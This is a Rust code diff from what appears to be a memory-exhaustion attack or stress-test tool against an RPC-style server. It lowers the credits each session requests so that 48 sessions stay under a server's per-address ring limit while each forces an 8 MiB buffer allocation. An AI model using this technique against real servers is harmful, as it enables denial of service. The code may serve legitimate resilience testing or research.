@@ -26,6 +26,10 @@ const MSG: u32 = 8 << 20;
 /// Packets sent of each request: 150 x 1444 B, past the 128 KiB at which
 /// a stepwise buffer would grow to the whole 8 MiB.
 const PKTS: u16 = 150;
+/// Credits asked per session: few, so that all 48 sessions' ring entries
+/// fit the per-address share of a lossless server (48 x 5 <= 256 of 1024):
+/// the attack is on memory, not on the ring.
+const CREDITS: u16 = 4;
 /// Payload bytes per packet at MTU 1500.
 const DPP: usize = 1444;
 
@@ -116,7 +120,7 @@ fn connect(
         for c in (0..SESSIONS).filter(|&c| got[c as usize].is_none()) {
             let body = SmRepr {
                 server_token: cookies[c as usize],
-                ..SmRepr::connect_req(c, 32, 1500, 8)
+                ..SmRepr::connect_req(c, CREDITS, 1500, 8)
             };
             out.frame(|buf| template.write_sm(buf, SESSION_NONE, token(c), &body))?;
         }
@@ -161,7 +165,7 @@ fn keepalives(
         let body = SmRepr {
             sm_type: SmType::KeepAlive,
             server_session: num,
-            ..SmRepr::connect_req(c as u16, 32, 1500, 8)
+            ..SmRepr::connect_req(c as u16, CREDITS, 1500, 8)
         };
         out.frame(|buf| template.write_sm(buf, num, token, &body))?;
     }
